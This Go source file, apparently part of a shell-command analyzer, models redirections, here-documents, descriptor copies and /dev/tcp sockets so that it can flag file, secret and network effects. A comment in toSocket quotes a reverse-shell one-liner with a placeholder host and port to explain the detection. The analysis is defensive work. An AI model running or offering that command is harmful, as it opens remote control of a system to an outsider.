package shell

import (
	"slices"
	"strings"

	"longline/internal/command"
	"longline/internal/paths"
	"longline/internal/syntax"
	"longline/internal/tool"
)

// redirection is where the redirections of a command lead its streams.
type redirection struct {
	stdin  command.Data
	reads  bool // stdin is set
	stdout sink
	file   string    // absolute, for toFile
	at     tool.Span // where it is named
	opened []string  // files that are opened to write to, as target names them
	add    bool      // >> rather than >
	forced bool      // >| rather than >
	// err is where standard error goes, and other where further descriptors go that
	// were made copies of standard output.
	err, other channel
	socket     bool // standard output goes to a service
	shown      bool // standard output goes to where errors are shown
	shaky      bool // another redirection may fail, so that the command does not run
	risky      bool // one may fail, whichever it is
	early      bool // one in front of that of standard output may fail, so that this opens no file
	frail      bool // one so far may fail
	wayward    bool // there may be no way to the file
	assigned   bool // what would be printed is the value of a variable
	vague      bool // what looks like the number of a descriptor may be a word, and standard output be led away
}

// sink is where standard output goes.
type sink uint8

const (
	toParent  sink = iota
	discarded      // to nowhere, to the standard error, to the network
	toFile
	elsewhere // to a descriptor or a file that is not known
)

// maxRedirects bounds the redirections of one command.
const maxRedirects = 100

// redirects resolves redirections and notes them and their effects in inv.
func (r *reader) redirects(s *state, list []*syntax.Redirect, inv *command.Invocation) redirection {
	if len(list) == 0 {
		return redirection{}
	}
	var red redirection
	if len(list) > maxRedirects {
		r.gap("too many redirections", inv.Span)
		list = list[:maxRedirects]
	}
	opened := -1 // how many invocations there were when a file was opened to be replaced
	for _, rd := range list {
		fd := ""
		if rd.N != nil {
			fd = rd.N.Value
		}
		out := command.Redirect{Op: rd.Op.String(), Fd: fd, Span: r.src.span(int(rd.Pos().Offset()), int(rd.Word.End().Offset()))}
		switch rd.Op {
		case syntax.Hdoc, syntax.DashHdoc:
			out.Target = command.Word{Span: out.Span}
			d := r.heredoc(s, rd)
			handsSecret(inv, d, out.Span)
			s.connect(&red, inv, fd, d)
			inv.Stdin.Hollow = inv.Stdin.Hollow || red.reads // a shell may have to keep it in a file, which may fail
		case syntax.WordHdoc:
			w := r.unsplit(s, rd.Word, inHereString)
			out.Target = w
			d := wordData(w).Ended(w.Hollow)
			handsSecret(inv, d, out.Span)
			s.connect(&red, inv, fd, d)
			inv.Stdin.Hollow = inv.Stdin.Hollow || red.reads // the same
		default:
			out.Target = r.target(s, rd.Word)
			red.shaky = red.shaky || red.mayFail(rd, out.Target)
			red.wayward = red.wayward || leadsNowhere(out.Target.Text)
			red.vague = red.vague || s.isWordBehind(rd)
			red.risky = red.risky || len(fd) > 1 || mayNotOpen(rd.Op, out.Target) || out.Target.Text == "-" && isStdout(fd, rd.Op == syntax.DplOut)
			fails := len(fd) > 1 || mayNotHappen(&r.ledger, s, rd, out.Target, &red)
			if rd.Op == syntax.DplOut {
				r.sent = append(r.sent, sending{out.Target.Text, len(r.invocations)})
			}
			r.redirect(s, rd, out, inv, &red)
			red.frail = red.frail || fails
			if opened < 0 && replaces(out.Op) {
				opened = len(r.invocations)
			}
		}
		if strings.HasPrefix(fd, "{") {
			r.assign(s, strings.Trim(fd, "{}"), numberWord(number{}), out.Span)
		}
		inv.Redirects = append(inv.Redirects, out)
	}
	if opened >= 0 && opened < len(r.invocations) { // what later ones are made of is read when it is empty
		r.loses(inv, r.invocations[opened:])
	}
	overruled(&r.site, inv)
	return red
}

// mayFail says whether a redirection is one beside that of standard output to a file that can
// fail: it opens another file, or copies a descriptor that may not be open.
func (red *redirection) mayFail(rd *syntax.Redirect, to command.Word) bool {
	switch rd.Op {
	case syntax.DplIn, syntax.DplOut:
		return !to.IsKnown() || strings.Trim(to.Text, "012-") != ""
	case syntax.RdrOut, syntax.AppOut, syntax.RdrClob, syntax.RdrAll, syntax.AppAll:
		if rd.N == nil || rd.N.Value == "1" {
			return red.file != ""
		}
	}
	fd, is := descriptorNamed(to.Text)
	return !isStream(to) || is && strings.Trim(fd, "012") != ""
}

// mayNotHappen says whether a redirection may fail as the disk is, and as the script has left it.
func mayNotHappen(led *ledger, s *state, rd *syntax.Redirect, to command.Word, red *redirection) bool {
	if rd.Op == syntax.DplIn || rd.Op == syntax.DplOut || isStream(to) {
		return red.mayFail(rd, to)
	}
	if !to.IsKnown() || s.dir.Reach != tool.Exact && !strings.HasPrefix(to.Text, "/") || leadsNowhere(to.Text) {
		return true
	}
	path := paths.Clean(s.dir.Text, to.Text)
	if had := s.wrote(path); had != nil && (had.shut || rd.Op == syntax.RdrIn) {
		return had.shut || had.gone
	}
	if rd.Op == syntax.RdrIn {
		return led.absent(path)
	}
	return !led.hasPlace(s, path) || keepsFiles(led, s, path) && rd.Op != syntax.RdrClob
}

// leadsNowhere says whether there may be no file at a path, whatever its last name is: it goes into a directory and out again, which
// fails if there is none, or it can only be that of a directory.
func leadsNowhere(path string) bool {
	into := false
	for name := range strings.SplitSeq(path, "/") {
		if name == ".." && into {
			return true
		}
		into = into || name != ".." && name != "." && name != ""
	}
	return into && (strings.HasSuffix(path, "/") || strings.HasSuffix(path, "/."))
}

// mayNotOpen says whether a redirection may fail.
func mayNotOpen(op syntax.RedirOperator, to command.Word) bool {
	if op == syntax.DplIn || op == syntax.DplOut {
		return !to.IsKnown() || len(to.Text) != 1 || strings.IndexByte("012-", to.Text[0]) < 0
	}
	return !to.IsKnown() || to.Text != "/dev/null"
}

// target expands the word of a redirection, which must be one word.
func (r *reader) target(s *state, w *syntax.Word) command.Word {
	var words words
	if r.fields(s, w, ordinary, &words); len(words.list) == 1 {
		return words.list[0]
	}
	// Bash calls this ambiguous and does not run the command.
	return command.Word{Span: r.src.nodeSpan(w)}
}

// connect makes data the standard input, or what another descriptor reads.
func (s *state) connect(red *redirection, inv *command.Invocation, fd string, d command.Data) {
	if fd == "" || fd == "0" {
		if red.reads && s.inZsh() { // which reads one after the other
			d = command.Data{Taint: red.stdin.Taint | d.Taint}
		}
		red.stdin, red.reads = d, true
		inv.Stdin = d
		return
	}
	if fd == "1" { // of what is written there nothing is seen
		red.stdout = elsewhere
	}
	s.fds.open(fd, d)
}

// handsSecret notes that a here-document holds a variable named like a secret, as
// echo does for its words: most programs show what they read.
func handsSecret(inv *command.Invocation, d command.Data, at tool.Span) {
	if d.Taint&command.FromSecret != 0 {
		inv.Effects = append(inv.Effects, tool.Effect{Kind: tool.Control, Target: "env.secret", Reach: tool.Exact, Span: at})
	}
}

// heredoc returns the text of a here-document.
func (r *reader) heredoc(s *state, rd *syntax.Redirect) command.Data {
	if rd.Hdoc == nil {
		return command.Data{Reach: tool.Exact}
	}
	tabs := rd.Op == syntax.DashHdoc
	if !slices.ContainsFunc(rd.Word.Parts, isQuoted) {
		w := r.heredocValue(s, rd, tabs)
		return wordData(w)
	}
	d := command.Data{Reach: tool.Exact}
	for _, p := range rd.Hdoc.Parts {
		l, ok := p.(*syntax.Lit)
		if !ok {
			r.gap("a here-document that cannot be read", r.src.nodeSpan(rd))
			return command.Data{}
		}
		if len(rd.Hdoc.Parts) == 1 && !tabs {
			d.At = r.src.where(int(l.ValuePos.Offset()), l.Value)
		}
		d.Text += l.Value
	}
	if tabs {
		d.Text = untab(d.Text)
	}
	return d
}

// wordData is the stream that holds a value.
func wordData(w command.Word) command.Data {
	if w.Glob || w.Hollow && w.IfEmpty != "" {
		return command.Data{Taint: w.Taint}
	}
	return command.Data{Text: w.Text, Reach: w.Reach, Plain: w.Plain, Taint: w.Taint, At: w.At, Seen: w.Seen}
}

// isQuoted says whether a part of a delimiter is quoted, which makes the text plain.
func isQuoted(p syntax.WordPart) bool {
	l, ok := p.(*syntax.Lit)
	return !ok || strings.IndexByte(l.Value, '\\') >= 0
}

// heredocValue expands an unquoted body. A quote is an ordinary character in it.
func (r *reader) heredocValue(s *state, rd *syntax.Redirect, tabs bool) command.Word {
	span := r.src.span(int(rd.Pos().Offset()), int(rd.Word.End().Offset()))
	var list []piece
	for i, p := range rd.Hdoc.Parts {
		l, ok := p.(*syntax.Lit)
		if !ok {
			list = r.pieces(s, []syntax.WordPart{p}, true, literal, list)
			continue
		}
		text := l.Value
		if tabs {
			if i == 0 {
				text = strings.TrimLeft(text, "\t")
			}
			text = untabInner(text)
		}
		if strings.IndexByte(text, '\\') >= 0 {
			text = unescape(text)
		}
		w := command.Known(text, tool.Span{})
		if text == l.Value {
			w = r.src.verbatim(text, l.ValuePos.Offset(), 0, 0)
		}
		list = append(list, piece{Word: w, quoted: true})
	}
	return r.fold(s, list, span)
}

// unescape removes the backslashes that count in an unquoted here-document.
func unescape(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == '\\' && i+1 < len(s) && (s[i+1] == '$' || s[i+1] == '`' || s[i+1] == '\\') {
			i++
		}
		b.WriteByte(s[i])
	}
	return b.String()
}

func untab(s string) string { return untabInner(strings.TrimLeft(s, "\t")) }

// untabInner removes the tabs behind each newline.
func untabInner(s string) string {
	if !strings.Contains(s, "\n\t") {
		return s
	}
	lines := strings.Split(s, "\n")
	for i := 1; i < len(lines); i++ {
		lines[i] = strings.TrimLeft(lines[i], "\t")
	}
	return strings.Join(lines, "\n")
}

// redirecting is one redirection being resolved: what it says, and what it changes.
type redirecting struct {
	r    *reader
	node *syntax.Redirect
	out  command.Redirect
	inv  *command.Invocation
	red  *redirection
}

// input says whether the redirection opens something to read from.
func (x *redirecting) input() bool {
	return x.node.Op == syntax.RdrIn || x.node.Op == syntax.RdrInOut
}

// both says whether it leads standard error to where it leads standard output.
func (x *redirecting) both() bool {
	switch x.node.Op {
	case syntax.RdrAll, syntax.AppAll:
		return true
	}
	return false
}

func (x *redirecting) effect(kind tool.Kind, w command.Word) {
	x.inv.Effects = append(x.inv.Effects, x.r.pathEffect(x.inv, kind, w))
}

// redirect handles everything but here-documents and here-strings.
func (r *reader) redirect(s *state, rd *syntax.Redirect, out command.Redirect, inv *command.Invocation, red *redirection) {
	x := &redirecting{r, rd, out, inv, red}
	if isStdout(out.Fd, !x.input() && rd.Op != syntax.DplIn) {
		x.overrules(s)
	}
	w := out.Target
	if w.Taint&command.FromSecret != 0 {
		inv.Effects = append(inv.Effects, dumped(w.Span)) // as the name of a file, or in a complaint
	}
	if w.Text == "!" && rd.Op != syntax.RdrIn {
		r.gap("zsh uses the next word as the file of this redirection", out.Span)
	}
	switch {
	case rd.Op == syntax.DplIn || rd.Op == syntax.DplOut:
		if r.duplicate(s, rd, out, inv, red) {
			return
		}
	case x.both():
		r.expandedTwice(w)
	}
	if isStream(w) {
		x.toStandard(s)
	} else if host, ok := socket(w); ok {
		x.toSocket(s, host)
	} else {
		x.open(s)
	}
}

// open redirects to or from a file.
func (x *redirecting) open(s *state) {
	w := x.out.Target
	if less, ok := command.Emptied(w, x.r.world); ok {
		kind := tool.Write
		if x.node.Op == syntax.RdrIn {
			kind = tool.Read
		}
		x.effect(kind, less)
		w.Hollow = false // that is done
		x.out.Target = w
	}
	switch x.node.Op {
	case syntax.RdrIn:
		x.effect(tool.Read, w)
		usesData(x.r, s, paths.Clean(x.inv.Dir.Text, w.Text))
		d := s.content(w, x.inv.Dir)
		if slices.ContainsFunc(x.red.opened, func(to string) bool { return comesFrom(&d, to) }) {
			d = command.Data{Taint: d.Taint}
		}
		s.connect(x.red, x.inv, x.out.Fd, d)
	case syntax.RdrInOut:
		x.effect(tool.Read, w)
		x.effect(tool.Write, w)
		x.readWrite(s)
	default:
		x.toFile(s)
	}
}

// readWrite opens a file to read from and to write to: over what it holds.
func (x *redirecting) readWrite(s *state) {
	to := target(x.r.pathEffect(x.inv, tool.Write, x.out.Target))
	x.opens(s, to, false)
	x.otherToFile(s, to)
	if x.out.Fd == "1" {
		x.red.stdout, x.red.add, x.red.file = elsewhere, true, to
		return
	}
	s.connect(x.red, x.inv, x.out.Fd, command.Data{Taint: command.FromFile})
}

// target names the file that an effect is on, as far as it is known.
func target(e tool.Effect) string {
	if e.Reach == tool.Exact && !e.Pattern {
		return e.Target
	}
	return vagueFile(e)
}

// toStandard redirects to or from a standard stream, another descriptor or nothing.
func (x *redirecting) toStandard(s *state) {
	path := x.out.Target.Text
	if !x.input() {
		standard(x.node, x.out.Fd, path, x.red)
		return
	}
	d := command.Data{Reach: tool.Exact}
	switch path {
	case "/dev/stdin", "/dev/fd/0":
		d = s.stdin
	case "/dev/null":
	default:
		d = x.r.descriptor(s, strings.TrimPrefix(path, "/dev/fd/"), path)
	}
	d = reopened(d)
	if path != "/dev/null" { // of a pipe, whoever reads it next goes on behind
		s.readsElsewhere()
	}
	s.connect(x.red, x.inv, x.out.Fd, d)
}

// toSocket connects with a host, of which the name may not be known.
func (x *redirecting) toSocket(s *state, host string) {
	reach, fd, span := tool.Exact, x.out.Fd, x.out.Target.Span
	if host == "" {
		reach = tool.Anywhere
	}
	x.inv.Effects = append(x.inv.Effects,
		tool.Effect{Kind: tool.Fetch, Target: host, Reach: reach, Span: span},
		tool.Effect{Kind: tool.Send, Target: host, Reach: reach, Span: span})
	d := command.Data{Taint: command.FromNet}
	if x.input() {
		s.connect(x.red, x.inv, fd, d)
		return
	}
	if fd == "" || fd == "1" {
		fd, x.red.stdout, x.red.socket = "1", discarded, true
	}
	// What is sent there can be answered: bash -i >& /dev/tcp/HOST/PORT 0>&1.
	s.fds.open(fd, d)
	if x.node.Op != syntax.RdrOut && x.node.Op != syntax.AppOut {
		s.fds.open("2", d) // >& and &> are both streams
	}
}

// toFile redirects what is printed to a file.
func (x *redirecting) toFile(s *state) {
	fd, adds := x.out.Fd, x.adds()
	e := x.r.pathEffect(x.inv, tool.Write, x.out.Target)
	x.inv.Effects = append(x.inv.Effects, e)
	if lost := e; !adds && silent(x.inv) && fd != "2" && command.HoldsContent(x.r.world, e, s.links) { // it is emptied
		lost.Kind, lost.Manner = tool.Delete, tool.Cleared
		x.inv.Effects = append(x.inv.Effects, lost)
	}
	to := target(e)
	x.opens(s, to, !adds)
	if fd != "" && fd != "1" {
		x.otherToFile(s, to)
		return
	}
	x.red.stdout, x.red.add, x.red.file, x.red.at, x.red.early = elsewhere, adds, to, e.Span, x.red.frail
	x.red.forced = x.node.Op == syntax.RdrClob
	if to == e.Target {
		x.red.stdout = toFile
	}
	if x.both() || x.node.Op == syntax.DplOut {
		x.red.err = x.red.copied()
	}
}

// opens notes that the redirection opens a file to write to, which it may empty. What the same command reads from there is not what it was,
// whichever of them is opened first.
func (x *redirecting) opens(s *state, to string, empties bool) {
	x.red.opened = append(x.red.opened, to)
	if empties {
		s.files.lose(to, loseData)
		s.files.spoil(to, loseData, s.toil)
		s.files.spoilLinked(to, s.links, s.toil)
		s.files.lose(s.realName(to), loseData)
	}
	if s.rereads(to); comesFrom(&x.red.stdin, to) {
		x.red.stdin = command.Data{Taint: x.red.stdin.Taint}
		x.inv.Stdin = x.red.stdin
	}
}

// overrules notes that standard output, which is led to a file, is led elsewhere again. Zsh writes to both.
func (x *redirecting) overrules(s *state) {
	if first := x.red.file; first != "" && s.inZsh() {
		s.hold(first)
		x.r.mayWrite(s, first, func(f *file) { f.mayReceive(command.Data{}) })
	}
}

// adds says whether the redirection goes on behind what a file holds.
func (x *redirecting) adds() bool { return x.node.Op == syntax.AppOut || x.node.Op == syntax.AppAll }

// otherToFile redirects what is printed through another descriptor than standard output. Who
// writes what to it, and when, is not followed.
func (x *redirecting) otherToFile(s *state, to string) {
	errors := x.out.Fd == "2"
	x.red.err.on = x.red.err.on && !errors
	kept := !errors || !alone(x.inv) || s.mayCall(x.inv)
	if kept {
		s.hold(to)
	}
	x.r.mayWrite(s, to, func(f *file) {
		f.data = command.Data{Taint: f.data.Taint | command.FromScript | command.Unseen} // messages may hold words of the script
		f.authored, f.edited = f.authored || kept, true
	})
}

// hold notes that a descriptor is open that writes to a file: what is in that is not known any more.
func (s *state) hold(to string) {
	if s.held = joinLists(s.held, []string{to}); len(s.held) > maxHeld {
		s.held = []string{"?"}
	}
	if len(s.links) > 0 { // it may be one of the others by another name
		s.files.forget(nil)
	}
}

// maxHeld bounds the files that descriptors are open for.
const maxHeld = 8

// holds says whether a descriptor may be open that writes to a file. What is linked or moved may be it by another name.
func (s *state) holds(path string) bool {
	return len(s.held) > 0 && len(s.links) > 0 || slices.ContainsFunc(s.held, func(to string) bool {
		return strings.TrimPrefix(to, asOutput) == path || to[0] == '?' && covers(to, path)
	})
}

// mayCall says whether an invocation may be that of a function.
func (s *state) mayCall(inv *command.Invocation) bool {
	list, _ := s.calls(inv.Words[0].Text)
	return len(list) > 0
}

// alone says whether all that an invocation prints on standard error is its own
// messages: it is a program, and none that runs others.
func alone(inv *command.Invocation) bool {
	return len(inv.Words) > 0 && inv.Words[0].IsKnown() && inv.Words[0].Text != "" && !isBuiltin(inv.Words[0].Text)
}

// silent says whether an invocation prints nothing, so that redirecting it only
// empties the file.
func silent(inv *command.Invocation) bool {
	if len(inv.Words) == 0 {
		return true
	}
	w := inv.Words[0]
	return w.IsKnown() && (w.Text == ":" || w.Text == "true")
}

// harmless says whether a file is one of the standard streams or nothing at all.
func harmless(path string) bool {
	switch path {
	case "/dev/null", "/dev/stdout", "/dev/stderr", "/dev/stdin":
		return true
	}
	return strings.HasPrefix(path, "/dev/fd/") && isNumber(path[len("/dev/fd/"):])
}

// isStream says whether a word names such a file.
func isStream(w command.Word) bool { return w.IsKnown() && harmless(w.Text) }

// socket reads /dev/tcp/HOST/PORT, which bash connects to.
func socket(w command.Word) (host string, ok bool) {
	text := w.Text
	if w.Reach == tool.Anywhere || w.Reach == tool.Under {
		return "", false
	}
	rest, tcp := strings.CutPrefix(text, "/dev/tcp/")
	if !tcp {
		if rest, ok = strings.CutPrefix(text, "/dev/udp/"); !ok {
			return "", false
		}
	}
	host, _, whole := strings.Cut(rest, "/")
	if !whole && w.Reach != tool.Exact {
		return "", true
	}
	return host, true
}

// expandedTwice notes the targets that bash expands a second time.
func (n *notes) expandedTwice(w command.Word) {
	if strings.ContainsAny(w.Text, "$`") || w.Reach != tool.Exact && !w.IsPlain() && w.Reach != tool.Under {
		n.gap("bash expands this redirection twice", w.Span)
	}
}

// duplicate handles >& and <&; it returns false if the word names a file.
func (r *reader) duplicate(s *state, rd *syntax.Redirect, out command.Redirect, inv *command.Invocation, red *redirection) bool {
	w := out.Target
	output := rd.Op == syntax.DplOut
	digits := strings.TrimSuffix(w.Text, "-")
	switch {
	case !w.IsKnown() && w.IsPlain():
		s.duplicateAny(output, out.Fd, inv, red)
		return true
	case !w.IsKnown():
		r.gap("a redirection whose target is known only at run time", w.Span)
	case strings.HasPrefix(w.Text, "-") && len(w.Text) > 1:
		// Bash closes the descriptor and goes on with the rest as a word.
		r.gap("a redirection to - followed by text", w.Span)
		return true
	case digits == "" || isNumber(digits):
		if digits != w.Text && (digits == "1" || digits == "2") { // it is moved
			s.closes(digits, "")
		}
		r.duplicateOne(s, output, out.Fd, digits, inv, red)
		return true
	default:
		r.expandedTwice(w)
	}
	return !output
}

// duplicateAny makes a descriptor a copy of one that is not known.
func (s *state) duplicateAny(output bool, fd string, inv *command.Invocation, red *redirection) {
	switch {
	case isStdout(fd, output):
		red.stdout = elsewhere
	case fd == "2":
		red.errTo("unknown")
	case !output || fd == "0":
		s.connect(red, inv, fd, s.anyDescriptor())
	}
}

// closes notes that a descriptor for output is closed, where it is made a copy of none.
func (s *state) closes(fd, of string) {
	if of == "" || s.isClosed(of) {
		s.fds.open(fd, command.Data{None: true})
	}
}

// isClosed says whether a descriptor for output may be closed.
func (s *state) isClosed(fd string) bool { return s.fds.get(fd) != nil && (fd == "1" || fd == "2") }

// isStdout says whether a redirection, one of output or of input, is that of standard output.
func isStdout(fd string, output bool) bool { return output && fd == "" || fd == "1" }

// isStdin says whether it is that of standard input.
func isStdin(fd string, output bool) bool { return fd == "0" || fd == "" && !output }

// duplicateOne makes a descriptor a copy of another, or closes it if that is none.
func (r *reader) duplicateOne(s *state, output bool, fd, of string, inv *command.Invocation, red *redirection) {
	input := isStdin(fd, output)
	switch {
	case isStdout(fd, output):
		s.closes("1", of)
		red.outTo(of)
		if d := s.fds.get(of); d != nil && d.Taint&command.FromNet != 0 {
			red.socket = true
		}
	case fd == "2":
		s.closes("2", of)
		red.errTo(of)
	case input && of != "" && of != "0":
		d := r.descriptor(s, of, "/dev/fd/"+of)
		s.readsElsewhere() // whoever reads it next goes on behind
		s.connect(red, inv, "", d)
	case !output && of == "":
		if input {
			s.connect(red, inv, "", command.Data{None: true})
		}
	default:
		if of == "1" {
			red.other = red.copied()
		}
		d := r.descriptor(s, of, "/dev/fd/"+of)
		if !input && !output { // whoever reads one goes on behind the other
			if of == "0" && red.reads {
				d = red.stdin
				red.stdin = d.Unread()
				inv.Stdin = red.stdin
			}
			d = d.Unread()
			s.readsElsewhere()
		}
		s.fds.open(fd, d)
	}
}

// content is what is known of the content of a file.
func (s *state) content(w, dir command.Word) command.Data {
	d := command.Data{Taint: command.FromFile, Path: &w, Endless: w.IsKnown() && command.EndlessDevice(w.Text)}
	if !w.IsKnown() || dir.Reach != tool.Exact && !strings.HasPrefix(w.Text, "/") {
		d.Taint |= s.files.taint()
		return d
	}
	if f := s.found(paths.Clean(dir.Text, w.Text)); f != nil {
		d = f.data
		d.Path = &w
		d.Taint |= command.FromScript
	}
	return d
}

// redirected runs a compound command with its redirections. They are listed as
// an invocation without words.
func (r *reader) redirected(st *syntax.Stmt, s *state, run func(*state) []*state) []*state {
	inv := r.invocation(s, st, nil)
	before := s.fork()
	// The commands inside print something, as far as the file is concerned.
	inv.Words = []command.Word{command.Known("", tool.Span{})}
	red := r.redirects(s, st.Redirs, inv)
	inv.Words = nil
	inv.Output = command.Data{Reach: tool.Exact}
	if len(inv.Effects) > 0 {
		if known := r.known(st, inv, s); known != nil {
			inv = known
			r.jobs.note(inv)
		} else {
			showsItself(&r.ledger, s, inv)
			r.list1(inv)
			r.remember(st, inv, s)
		}
	}
	listed := len(r.invocations)
	numbers := redirected(st.Redirs)
	undone := s.fork().decide(false) // a redirection may fail
	stdin := s.stdin
	if red.reads {
		s.stdin = red.stdin
	}
	was := r.hold(s.out, red.stdout)
	s.out, s.shown = command.Data{Reach: tool.Exact}, s.shown && red.stdout == toParent
	used := r.use
	if from := red.stdin.Path; from != nil && red.stdin.Reach != tool.Anywhere {
		r.use.file(paths.Clean(inv.Dir.Text, from.Text)) // and read to its end, whatever that is then
	}
	had, open := s.wrote(red.file), s.openFor(red)
	states := run(s)
	emptiedBy(&r.site, inv, printedIn(states)...)
	losesInside(&r.ledger, inv, listed)
	losesOpen(&r.ledger, before, []*command.Invocation{inv})
	r.held = was
	released(r, used)
	for i, e := range states {
		e = e.fork()
		states[i] = e
		mixed := e.closed(red, had, open)
		printed := r.overheard(e, e.out)
		inv.Relays = inv.Relays || printed.Taint&command.FromNet != 0
		e.out, e.shown = before.out, before.shown
		if red.reads {
			e.stdin = stdin
		}
		e.fds.reopen(before.fds, numbers)
		r.send(e, printed, red)
		if mixed {
			e.files.lose(red.file, loseData)
		}
	}
	undone.fds.reopen(before.fds, numbers)
	return r.settle(append(states, undone))
}

// openFor makes unknown what is in the file that a compound command prints to, as long as it runs. It returns
// what is known of the file then.
func (s *state) openFor(red redirection) *file {
	if red.stdout != toFile {
		return nil
	}
	s.held = joinLists(s.held, []string{asOutput + red.file})
	s.files.lose(red.file, loseData)
	return s.wrote(red.file)
}

// asOutput stands in front of a file that is held as the standard output of a compound command.
const asOutput = "!"

// closed gives the file that a compound command has printed to back what it held before, as far as nobody else
// has written to it. Otherwise what is in it is mixed.
func (s *state) closed(red redirection, had, open *file) (mixed bool) {
	if red.stdout != toFile {
		return false
	}
	s.held = slices.DeleteFunc(slices.Clone(s.held), func(to string) bool { return to == asOutput+red.file })
	switch now := s.wrote(red.file); {
	case now != open:
		return true
	case had != nil:
		s.files.update(red.file, func(f *file) { *f = *had })
	}
	return false
}

// loseData makes unknown what is in a file.
func loseData(f *file) { f.data = command.Data{Taint: f.data.Taint | command.FromScript} }

// redirected are the descriptors that redirections open for a command alone.
func redirected(list []*syntax.Redirect) (numbers []string) {
	for _, rd := range list {
		if rd.N != nil && !strings.HasPrefix(rd.N.Value, "{") {
			numbers = append(numbers, rd.N.Value)
		}
		switch rd.Op {
		case syntax.RdrAll, syntax.AppAll, syntax.DplOut:
			numbers = append(numbers, "1", "2")
		}
	}
	return numbers
}
